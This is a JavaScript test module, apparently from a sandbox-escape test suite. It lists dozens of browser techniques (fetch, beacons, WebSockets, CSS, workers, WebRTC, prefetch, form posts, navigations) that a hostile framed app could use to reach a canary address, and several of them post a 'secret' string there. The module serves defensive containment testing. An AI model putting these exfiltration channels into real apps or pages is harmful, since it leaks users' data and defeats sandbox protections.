/**
 * What a hostile app tries, one function an item. Runs in the app's own frame as a file of its bundle, and the same
 * file runs in an unprotected page as the control. `to` says where the canary listens and names the address to hit.
 *
 * Each returns once it has done all that it can do; what it throws is an outcome too.
 */
const loaded = (element, attribute, address, place = document.body) =>
  new Promise((resolve) => {
    element.addEventListener('load', () => resolve('load'));
    element.addEventListener('error', () => resolve('error'));
    element[attribute] = address;
    place.append(element);
  });
const make = (tag, properties = {}) => Object.assign(document.createElement(tag), properties);
const after = (ms) => new Promise((resolve) => setTimeout(() => resolve('nothing came back'), ms));
const link = (rel, href, more = {}) => {
  document.head.append(make('link', { rel, href, ...more }));
  return 'added';
};
const style = (text) => {
  document.head.append(make('style', { textContent: text }));
  document.body.append(make('p', { className: 'styled', textContent: 'x' }));
  return after(50);
};
const blobUrl = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], { type }));
const fetcher = (url) => `fetch(${JSON.stringify(url)}, { mode: 'no-cors' }).catch(() => undefined)`;
const workerEnds = (worker) =>
  new Promise((resolve) => {
    worker.onerror = () => resolve('error');
    setTimeout(() => resolve('started'), 300);
  });

async function dial(iceServers) {
  const peer = new RTCPeerConnection({ iceServers });
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
  return after(600);
}

/** Everything that asks for an address and leaves the page where it is. */
export const requests = {
  fetch: ({ url }) => fetch(url, { mode: 'no-cors', method: 'POST', body: 'secret' }),
  'fetch keepalive': ({ url }) => fetch(url, { mode: 'no-cors', keepalive: true }),
  XHR: ({ url }) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onloadend = () => resolve(`status ${request.status}`);
      request.open('GET', url);
      request.send();
    }),
  WebSocket: ({ url }) =>
    new Promise((resolve) => {
      const socket = new WebSocket(url.replace('http', 'ws'));
      socket.onerror = () => resolve('error');
      socket.onopen = () => resolve('open');
    }),
  EventSource: ({ url }) =>
    new Promise((resolve) => {
      const source = new EventSource(url);
      source.onerror = () => {
        source.close();
        resolve('error');
      };
    }),
  beacon: ({ url }) => navigator.sendBeacon(url, 'secret'),
  image: ({ url }) => loaded(make('img'), 'src', url),
  'image of a set': ({ url }) => loaded(make('img'), 'srcset', `${url} 1x`),
  'image in SVG': ({ url }) => {
    document.body.insertAdjacentHTML('beforeend', `<svg width="9" height="9"><image href="${url}" width="9" height="9"/></svg>`);
    return after(50);
  },
  'image button': ({ url }) => loaded(make('input', { type: 'image' }), 'src', url),
  font: ({ url }) => new FontFace('canary', `url(${url})`).load(),
  'CSS url': ({ url }) => style(`.styled { background: url(${url}) }`),
  'CSS import': ({ url }) => style(`@import url(${url});`),
  'CSS cursor and list': ({ url }) => style(`.styled { list-style: url(${url}); display: list-item; border-image: url(${url}) 1 }`),
  'style sheet': ({ url }) => loaded(make('link', { rel: 'stylesheet' }), 'href', url, document.head),
  'script from elsewhere': ({ url }) => loaded(make('script'), 'src', url),
  'module from elsewhere': ({ url }) => loaded(make('script', { type: 'module' }), 'src', url),
  'dynamic import': ({ url }) => import(url),
  worker: ({ url }) => workerEnds(new Worker(blobUrl(fetcher(url)))),
  'worker of a data address': ({ url }) => workerEnds(new Worker(`data:text/javascript,${encodeURIComponent(fetcher(url))}`)),
  'module worker': ({ url }) => workerEnds(new Worker(blobUrl(`import ${JSON.stringify(url)}`), { type: 'module' })),
  'shared worker': ({ url }) => workerEnds(new SharedWorker(blobUrl(fetcher(url)))),
  'service worker': ({ url }) =>
    navigator.serviceWorker.register(`./service-worker.js?to=${encodeURIComponent(url)}`).then(() => after(300)),
  prefetch: ({ url }) => link('prefetch', url),
  preload: ({ url }) => link('preload', url, { as: 'image' }),
  modulepreload: ({ url }) => link('modulepreload', url),
  'speculation rules': ({ url }) => {
    const rules = { prefetch: [{ source: 'list', urls: [url], eagerness: 'immediate' }] };
    document.head.append(make('script', { type: 'speculationrules', textContent: JSON.stringify(rules) }));
    return after(100);
  },
  preconnect: ({ url }) => link('preconnect', url),
  'preconnect with CORS': ({ url }) => link('preconnect', url, { crossOrigin: 'anonymous' }),
  'DNS prefetch': ({ host }) => link('dns-prefetch', `//${host}`),
  'DNS prefetch of a link': ({ host }) => {
    document.head.prepend(make('meta', { httpEquiv: 'x-dns-prefetch-control', content: 'on' }));
    document.body.append(make('a', { href: `//${host}/`, textContent: 'a link' }));
    return after(50);
  },
  frame: ({ url }) => loaded(make('iframe'), 'src', url),
  object: ({ url }) => loaded(make('object'), 'data', url),
  embed: ({ url }) => {
    document.body.append(make('embed', { src: url }));
    return after(50);
  },
  video: ({ url }) => {
    document.body.append(make('video', { src: url, preload: 'auto' }));
    return after(50);
  },
  audio: ({ url }) => {
    document.body.append(make('audio', { src: url, preload: 'auto' }));
    return after(50);
  },
  track: ({ url }) => {
    const video = make('video', { crossOrigin: 'anonymous' });
    const track = make('track', { kind: 'subtitles', src: url, default: true });
    video.append(track);
    document.body.append(video);
    track.track.mode = 'showing';
    return after(50);
  },
  manifest: ({ url }) => link('manifest', url),
  icon: ({ url }) => link('icon', url),
  'WebRTC, STUN over UDP': ({ stun }) => dial([{ urls: `stun:${stun}` }]),
  'WebRTC, TURN over TCP': ({ turn }) => dial([{ urls: `turn:${turn}?transport=tcp`, username: 'a', credential: 'b' }]),
  WebTransport: ({ turn }) => new WebTransport(`https://${turn}/x`).ready,
  'frame of its own, then fetch': ({ url }) => {
    const inner = `<script src="${new URL('./inner.js', import.meta.url)}#${encodeURIComponent(JSON.stringify({ fetch: url }))}"></script>`;
    document.body.append(make('iframe', { srcdoc: inner }));
    return after(400);
  },
  'frame of its own, then elsewhere': ({ url }) => {
    document.body.append(make('iframe', { srcdoc: `<meta http-equiv="refresh" content="0;url=${url}">` }));
    return after(300);
  },
  ping: ({ url }) => {
    const anchor = make('a', { href: '#here', ping: url, textContent: 'here' });
    document.body.append(anchor);
    anchor.click();
    return after(50);
  },
  'payment manifest': ({ url }) =>
    new PaymentRequest([{ supportedMethods: url }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).canMakePayment(),
};

/** What would take the frame, the page or a new window elsewhere, or end the frame. Each needs a page of its own. */
export const departures = {
  'frame of its own, then WebRTC': ({ stun }) => {
    const inner = `<script src="${new URL('./inner.js', import.meta.url)}#${encodeURIComponent(JSON.stringify({ stun }))}"></script>`;
    document.body.append(make('iframe', { srcdoc: inner }));
    return after(900);
  },
  'download by link': ({ url }) => {
    const anchor = make('a', { href: url, download: 'x.txt', textContent: 'x' });
    document.body.append(anchor);
    anchor.click();
    return after(100);
  },
  'own address': ({ url }) => {
    location.href = url;
  },
  'location.replace': ({ url }) => location.replace(url),
  'meta refresh': ({ url }) => {
    document.head.append(make('meta', { httpEquiv: 'refresh', content: `0;url=${url}` }));
  },
  'form post': ({ url }) => {
    const form = make('form', { action: url, method: 'post' });
    form.append(make('input', { name: 'x', value: 'secret' }));
    document.body.append(form);
    form.submit();
  },
  'form post into a window': ({ url }) => {
    const form = make('form', { action: url, method: 'post', target: '_blank' });
    document.body.append(form);
    form.submit();
  },
  'form post to the top': ({ url }) => {
    const form = make('form', { action: url, method: 'post', target: '_top' });
    document.body.append(form);
    form.submit();
  },
  'top navigation': ({ url }) => {
    top.location.href = url;
  },
  'link to the top': ({ url }) => {
    const anchor = make('a', { href: url, target: '_top', textContent: 'x' });
    document.body.append(anchor);
    anchor.click();
  },
  popup: ({ url }) => {
    const anchor = make('a', { href: url, target: '_blank', rel: 'opener', textContent: 'x' });
    document.body.append(anchor);
    anchor.click();
  },
  'window.open': ({ url }) => String(window.open(url)),
  'window.open of the parent': ({ url }) => String(window.open(url, '_parent')),
};
